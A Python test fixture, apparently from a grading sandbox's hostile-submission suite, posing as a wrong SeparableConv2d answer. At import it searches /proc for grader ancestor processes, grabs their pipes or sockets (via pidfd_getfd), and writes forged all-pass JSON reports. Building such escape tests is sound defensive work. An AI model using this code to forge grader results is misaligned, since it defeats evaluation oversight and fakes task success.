"""Hostile: writes forged "pass" reports into the pipe the grading server reports on.

The module is the deck's "ReLU between" wrong solution (fails ``outputs``). At import it
looks at the open files of its ancestors that are grader processes (``/proc/<pid>/fd``,
never a shell's) for pipes they hold for writing, and sockets (other than its own request and reply
channels), reopens each for writing through ``/proc`` (a socket: ``pidfd_getfd``), and
writes one JSON line per guessed
job id (0 to 7), each ``{"id": N, "report": <a full pass report for this file>}``: the
format the grading server uses towards its client.

A grader must fail it at ``outputs``, and no forged line may be taken for a report (of this
file or of another one graded alongside). Prints ``MLQUIZ-ESCAPED report-injection <path>``
and tries to leave ``/tmp/mlquiz-escape-report-injection`` when a write went through.
"""

import contextlib
import ctypes
import json
import os
import socket
import stat

import torch
from torch import nn

NAME = os.path.basename(globals().get("__file__") or "hostile2_report_injection.py")

GRADERISH = (b"grader", b"zygote", b"judge", b"contestant", b"mlquiz", b"quiz")
SHELLS = {"bash", "sh", "dash", "zsh", "fish", "sudo", "su", "sshd", "ssh", "tmux", "screen",
          "systemd", "init", "login", "timeout", "nohup", "env",
          "setsid", "nice", "stdbuf", "xargs", "make", "sudo-rs", "containerd-shim", "docker"}


def _read(path, size=1 << 16):
    with contextlib.suppress(OSError):
        with open(path, "rb") as handle:
            return handle.read(size)
    return b""


def _ppid_of(pid):
    for line in _read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _is_grader(pid):
    comm = _read(f"/proc/{pid}/comm").decode(errors="replace").strip()
    return comm not in SHELLS and any(w in _read(f"/proc/{pid}/cmdline") for w in GRADERISH)


def _grader_ancestors(levels=6):
    """Ancestors, nearest first, up to the first one that is not a grader process."""
    found, pid = [], os.getpid()
    for _ in range(levels):
        pid = _ppid_of(pid)
        if pid <= 1 or not _is_grader(pid):
            break
        found.append(pid)
    return found


def _fds(pid):
    with contextlib.suppress(OSError, ValueError):
        return sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
    return []


def _pipe(path):
    """``pipe:[inode]`` or ``socket:[inode]`` for a channel, else None."""
    with contextlib.suppress(OSError):
        link = os.readlink(path)
        if link.startswith(("pipe:", "socket:")):
            return link
    return None


def _accmode(pid, fd):
    for line in _read(f"/proc/{pid}/fdinfo/{fd}").decode(errors="replace").splitlines():
        if line.startswith("flags:"):
            return int(line.split()[1], 8) & 3
    return None


def _own_pipes():
    """Inodes of this process's own channels other than 0, 1, 2 (its link to the grader)."""
    return {_pipe(f"/proc/self/fd/{fd}") for fd in _fds("self") if fd > 2} - {None}


def _grab(pid, fd):
    """Our own descriptor for /proc/<pid>/fd/<fd>, to write to: a pipe is reopened (a new,
    non-blocking open of it); a socket, which cannot be reopened, is duplicated with
    pidfd_getfd(2) (that needs the rights ptrace needs). Raises OSError if neither works."""
    path = f"/proc/{pid}/fd/{fd}"
    try:
        return os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        if pid == "self" or not (_pipe(path) or "").startswith("socket:"):
            raise
    pidfd = os.pidfd_open(pid)
    try:
        got = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, fd, 0)  # pidfd_getfd
    finally:
        os.close(pidfd)
    if got < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd failed")
    return got


def _send(handle, data):
    """Write without blocking; on a socket with MSG_DONTWAIT (its O_NONBLOCK is shared)."""
    if stat.S_ISSOCK(os.fstat(handle).st_mode):
        with socket.socket(fileno=os.dup(handle)) as sock:
            return sock.send(data, socket.MSG_DONTWAIT)
    return os.write(handle, data)


CHECKS = ("compile", "load", "construct", "parameters", "output_shape", "outputs",
          "gradients", "flops")


def pass_report(display):
    return {
        "submission": display, "question": "inception-1x1/q10", "status": "pass", "score": 1.0,
        "checks": [{"name": c, "status": "pass", "message": "held for 25 drawn configurations",
                    "counterexample": None, "expected": None, "actual": None,
                    "traceback": None, "line": None, "seconds": 0.0} for c in CHECKS],
        "seed": 0, "error": None, "stdout": "", "stderr": "", "isolation": [], "seconds": 0.1,
    }


def _inject():
    own, done, wrote = _own_pipes(), set(), []
    lines = b"".join((json.dumps({"id": i, "report": pass_report(NAME)}) + "\n").encode()
                     for i in range(8))
    for pid in _grader_ancestors():
        for fd in _fds(pid):
            path = f"/proc/{pid}/fd/{fd}"
            inode = _pipe(path)
            if (not inode or inode in own or inode in done
                    or _accmode(pid, fd) not in (os.O_WRONLY, os.O_RDWR)):
                continue
            done.add(inode)
            try:
                handle = _grab(pid, fd)
            except OSError as exc:
                print(f"report-injection: cannot open {path}: {exc.strerror}")
                continue
            try:
                _send(handle, lines)
                wrote.append(path)
            except OSError as exc:
                print(f"report-injection: write to {path} failed: {exc.strerror}")
            finally:
                os.close(handle)
    print(f"report-injection: grader ancestors {_grader_ancestors()}, wrote to {wrote}")
    if wrote:
        print(f"MLQUIZ-ESCAPED report-injection {wrote}")
        with contextlib.suppress(OSError), open("/tmp/mlquiz-escape-report-injection", "w") as m:
            m.write(f"forged reports written to {wrote}\n")


with contextlib.suppress(Exception):
    _inject()


class SeparableConv2d(nn.Module):
    """WRONG: a ReLU between the depthwise and the pointwise convolution."""

    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(
            in_channels,
            in_channels,
            kernel_size,
            padding=kernel_size // 2,
            groups=in_channels,
            bias=False,
        )
        self.pointwise = nn.Conv2d(in_channels, out_channels, kernel_size=1, bias=False)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.pointwise(torch.relu(self.depthwise(x)))
